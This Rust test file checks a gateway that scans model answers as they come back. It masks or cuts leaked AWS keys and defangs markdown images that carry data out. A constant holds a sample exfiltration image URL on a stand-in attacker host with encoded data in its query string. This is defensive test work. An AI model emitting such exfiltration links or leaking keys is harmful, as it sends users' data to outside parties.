//! What a model betrays is seen on its way back, before its first byte is given: masked, cut or recorded, by policy.

use anyhow::Result;
use harness::lab::{Lab, is_root};
use serde_json::{Value, json};

use crate::held::records;
use crate::{ANTHROPIC, EMAIL, KEY, OPENAI, Said, chat, curl, post, streamed_text};

/// The key that the stand-in betrays, and the image that would carry data out.
const BETRAYED: &str = "AKIAQ7ZTRM4XLP2WN5GK";
const IMAGE: &str = "https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==";

/// What the client reads of an answer.
fn text(said: &Said, streamed: bool) -> Result<String> {
    if streamed {
        return Ok(streamed_text(&said.out));
    }
    let whole: Value = serde_json::from_str(&said.out)?;
    let chat = whole["choices"][0]["message"]["content"].as_str();
    Ok(chat
        .or(whole["content"][0]["text"].as_str())
        .unwrap_or_default()
        .to_owned())
}

fn policy(lab: &Lab, answer: &str) -> Result<String> {
    let path = lab.dir().join("answers.toml");
    let rule = format!(
        "[[rule]]\nname = \"answers\"\neffect = \"allow\"\nredact = [\"secrets\", \"pii\"]\nanswer = {answer}\n"
    );
    std::fs::write(&path, rule)?;
    Ok(path.display().to_string())
}

/// What was found in the answers on record, oldest first.
fn found(lab: &Lab) -> Result<Vec<(String, String, u64)>> {
    let all = records(lab)?;
    let rows = all
        .iter()
        .filter_map(|event| event["closed"]["found"].as_array());
    let row = |row: &Value| {
        let word = |name: &str| row[name].as_str().unwrap_or_default().to_owned();
        (
            word("class"),
            word("action"),
            row["count"].as_u64().unwrap_or(0),
        )
    };
    Ok(rows.flatten().map(row).collect())
}

#[test]
fn a_betrayed_secret_is_masked_and_the_callers_own_is_given_back() -> Result<()> {
    if !is_root() {
        return Ok(());
    }
    let lab = Lab::start()?;
    let policy = policy(&lab, "{ secrets = \"mask\", pii = \"record\" }")?;
    let asked = format!("mail {KEY} to {EMAIL}, and somebody's key");
    for streamed in [true, false] {
        for url in [OPENAI, ANTHROPIC] {
            let body = chat(&asked, streamed);
            let said = curl(&lab, &["--policy", &policy], &post(url, &body))?;
            assert_eq!(said.code, Some(0), "{}", said.err);
            assert!(
                !said.out.contains(BETRAYED),
                "{url} {streamed}: {}",
                said.out
            );
            if url == OPENAI {
                assert_eq!(
                    text(&said, streamed)?,
                    format!(
                        "You wrote: {asked} It is [masked: an AWS access key] of course, as you know."
                    ),
                    "{streamed}"
                );
            }
            assert!(said.err.contains("1 answer masked"), "{}", said.err);
        }
    }
    let mask = ("secrets.aws_access_key".to_owned(), "mask".to_owned(), 1);
    assert_eq!(found(&lab)?, vec![mask; 4]);
    Ok(())
}

#[test]
fn an_answer_is_cut_before_what_may_not_pass() -> Result<()> {
    if !is_root() {
        return Ok(());
    }
    let lab = Lab::start()?;
    let policy = policy(&lab, "{ secrets = \"cut\" }")?;
    for streamed in [true, false] {
        let body = chat("tell me somebody's key", streamed);
        let said = curl(&lab, &["--policy", &policy], &post(OPENAI, &body))?;
        assert_eq!(said.code, Some(0), "{}", said.err);
        // A stream's words come in pieces as they are seen through.
        let told = match streamed {
            true => streamed_text(&said.out),
            false => said.out.clone(),
        };
        assert!(
            told.contains("You wrote") && !told.contains("AKIAQ7"),
            "{told}"
        );
        assert!(!said.out.contains("as you know"), "{}", said.out);
        for words in ["the model's answer contains an AWS access key", "weir why "] {
            assert!(said.out.contains(words), "{streamed}: {}", said.out);
        }
        assert!(said.err.contains("1 answer cut"), "{}", said.err);
    }
    let all = records(&lab)?;
    let endings: Vec<&Value> = all
        .iter()
        .filter_map(|event| event["closed"].get("ending"))
        .collect();
    assert_eq!(endings, [&json!("cut"), &json!("cut")]);
    Ok(())
}

#[test]
fn an_image_that_carries_data_is_defanged_and_a_key_that_is_told_is_recorded() -> Result<()> {
    if !is_root() {
        return Ok(());
    }
    let lab = Lab::start()?;
    for streamed in [true, false] {
        let body = chat("draw a picture of somebody's key", streamed);
        let said = curl(&lab, &[], &post(OPENAI, &body))?;
        assert_eq!(said.code, Some(0), "{}", said.err);
        let text = text(&said, streamed)?;
        assert!(text.contains(BETRAYED), "baseline records alone: {text}");
        let defanged = IMAGE.replace("https:", "hxxps:");
        assert!(text.contains(&format!("![p]({defanged}) There.")), "{text}");
    }
    let rows = found(&lab)?;
    let row = |class: &str, action: &str| (class.to_owned(), action.to_owned(), 1);
    for one in [
        row("markup.image", "mask"),
        row("secrets.aws_access_key", "record"),
    ] {
        assert_eq!(
            rows.iter().filter(|row| **row == one).count(),
            2,
            "{rows:?}"
        );
    }
    let observed = curl(
        &lab,
        &["--pack", "observe"],
        &post(OPENAI, &chat("draw a picture", true)),
    )?;
    assert!(
        streamed_text(&observed.out).contains(IMAGE),
        "{}",
        observed.out
    );
    assert!(found(&lab)?.contains(&row("markup.image", "would-mask")));
    Ok(())
}
